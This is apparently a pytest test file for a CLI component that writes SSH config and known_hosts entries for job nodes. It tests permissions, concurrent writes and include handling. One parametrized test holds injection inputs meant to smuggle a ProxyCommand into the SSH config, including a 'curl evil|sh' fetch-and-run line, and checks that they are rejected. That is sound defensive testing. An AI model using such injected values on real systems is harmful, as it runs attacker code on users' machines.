"""The files with which ssh finds nodes."""

from __future__ import annotations

import shutil
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from perdure.cli.jobs.enter.ssh_files import InvalidHost, SshFolder, SshUnavailable

KEY, OTHER = "ssh-ed25519 AAAA1", "ssh-ed25519 AAAA2"


@pytest.fixture
def folder(tmp_path: Path) -> SshFolder:
    return SshFolder(tmp_path / "a home")


def test_known_hosts__has_one_line_per_job(folder: SshFolder) -> None:
    folder.remember("job-1", KEY, "root")
    folder.remember("job-11", OTHER, "root")
    folder.remember("job-1", OTHER, "root")
    folder.remember("job-1", OTHER, "root")
    assert sorted(folder.known_hosts.read_text().splitlines()) == [
        f"job-1,job-1-worker* {OTHER}",
        f"job-11,job-11-worker* {OTHER}",
    ]


def test_known_hosts__loses_no_line_when_many_write(folder: SshFolder) -> None:
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda job: folder.remember(f"job-{job}", KEY, f"user{job}"), range(1, 33)))
    assert len(folder.known_hosts.read_text().splitlines()) == 32
    assert folder.config.read_text().count("User user") == 32


def test_config__names_users_other_than_root(folder: SshFolder) -> None:
    folder.remember("job-7", KEY, "alice")
    folder.remember("job-8", KEY, "root")
    text = folder.config.read_text()
    assert "Host job-7 job-7-worker*\n    User alice\n" in text
    assert "job-8" not in text
    folder.remember("job-7", KEY, "root")
    assert "alice" not in folder.config.read_text()


@pytest.mark.parametrize(
    ("host", "key", "user"),
    [
        ("job-7", KEY, "x\n    ProxyCommand curl evil|sh"),
        ("job-7", KEY, "-oProxyCommand=evil"),
        ("job-7", KEY, ""),
        ("job-7", f"{KEY}\n* {OTHER}", "root"),
        ("job-7", "ssh-rsa AAAA", "root"),
        ("job-7\n    ProxyCommand evil\nHost x", KEY, "root"),
        ("-oProxyCommand=evil", KEY, "root"),
        ("a b", KEY, "root"),
        ("*", KEY, "root"),
    ],
)
def test_hostile_controller__writes_nothing_into_the_files_of_ssh(
    folder: SshFolder, host: str, key: str, user: str
) -> None:
    folder.remember("job-1", KEY, "alice")
    before = folder.config.read_text(), folder.known_hosts.read_text()
    with pytest.raises(InvalidHost, match="nothing was written"):
        folder.remember(host, key, user)
    assert (folder.config.read_text(), folder.known_hosts.read_text()) == before


def test_hostile_cluster_name__is_not_written(folder: SshFolder) -> None:
    folder.remember("job-1", KEY, "alice")
    before = folder.config.read_text()
    with pytest.raises(InvalidHost):
        folder.list_clusters(["dev", "x\n    ProxyCommand evil"])
    assert folder.config.read_text() == before


@pytest.mark.parametrize("user", ["alice", "a.b-c_d+e@example.org", "machine$", "1000"])
def test_user__may_be_any_account(folder: SshFolder, user: str) -> None:
    folder.remember("job-1", KEY, user)
    assert f"    User {user}\n" in folder.config.read_text()


def test_config__names_the_clusters_that_exist(folder: SshFolder) -> None:
    folder.list_clusters(["dev"])
    assert not folder.config.exists(), "the user has not asked for ssh"
    folder.list_clusters(["dev"], is_first=True)
    assert "\nHost job-* dev dev-worker*\n" in folder.config.read_text()
    folder.remember("job-7", KEY, "alice")
    folder.remember("dev", KEY, "bob")
    folder.remember("dev", KEY, "bob")
    assert "Host dev dev-worker*\n    User bob\n" in folder.config.read_text()
    assert "\nHost job-* dev dev-worker*\n" in folder.config.read_text()
    folder.list_clusters(["other"])
    text = folder.config.read_text()
    assert "\nHost job-* other other-worker*\n" in text
    assert "alice" in text
    assert "bob" not in text


@pytest.mark.skipif(shutil.which("ssh") is None, reason="ssh is missing: scripts/ensure-ssh.sh")
def test_config__is_one_that_ssh_understands(folder: SshFolder, tmp_path: Path) -> None:
    folder.remember("job-7", KEY, "alice")
    mine = tmp_path / "config"
    mine.write_text("Host *\n    User me\n    StrictHostKeyChecking no\n")
    assert folder.include_in(mine)

    def option(host: str, name: str) -> str:
        shown = subprocess.run(["ssh", "-F", mine, "-G", host], capture_output=True, text=True, check=True).stdout
        return next(line.partition(" ")[2] for line in shown.splitlines() if line.startswith(name + " "))

    assert option("job-7", "user") == option("job-7-worker3", "user") == "alice"
    assert option("job-77", "user") == "root"
    assert option("job-7", "stricthostkeychecking") == "true"
    assert str(folder.known_hosts) in option("job-7", "userknownhostsfile")
    assert option("elsewhere", "user") == "me"
    assert f"PERDURE_HOME={folder.home}" in option("job-7", "proxycommand").replace("'", "")


def test_include__is_added_once_and_keeps_the_rest(folder: SshFolder, tmp_path: Path) -> None:
    real = tmp_path / "dotfiles"
    real.write_bytes(b"# \xff mine\r\nHost x\r\n")
    real.chmod(0o640)
    link = tmp_path / "config"
    link.symlink_to(real)
    assert folder.include_in(link)
    assert not folder.include_in(link)
    assert link.is_symlink()
    assert real.read_bytes() == f'Include "{folder.config}"\n\n'.encode() + b"# \xff mine\r\nHost x\r\n"
    assert real.stat().st_mode & 0o777 == 0o640


def test_include__makes_a_private_file_where_there_is_none(folder: SshFolder, tmp_path: Path) -> None:
    config = tmp_path / "new" / ".ssh" / "config"
    (tmp_path / "new").mkdir()
    assert folder.include_in(config)
    assert config.stat().st_mode & 0o777 == 0o600
    assert config.parent.stat().st_mode & 0o777 == 0o700


def test_include__that_cannot_be_written_is_one_clear_error(folder: SshFolder, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(SshUnavailable, match="file"):
        folder.include_in(tmp_path / "file" / "config")


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="ssh-keygen is missing: scripts/ensure-ssh.sh")
def test_key__is_made_once(folder: SshFolder) -> None:
    with ThreadPoolExecutor(4) as pool:
        keys = set(pool.map(lambda _: folder.public_key(), range(4)))
    assert len(keys) == 1
    assert keys.pop().startswith("ssh-ed25519 ")
    assert folder.private_key.stat().st_mode & 0o777 == 0o600
    assert folder.path.stat().st_mode & 0o777 == 0o700


def test_key__without_ssh_keygen_is_one_clear_error(folder: SshFolder, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(SshUnavailable, match="install OpenSSH"):
        folder.public_key()
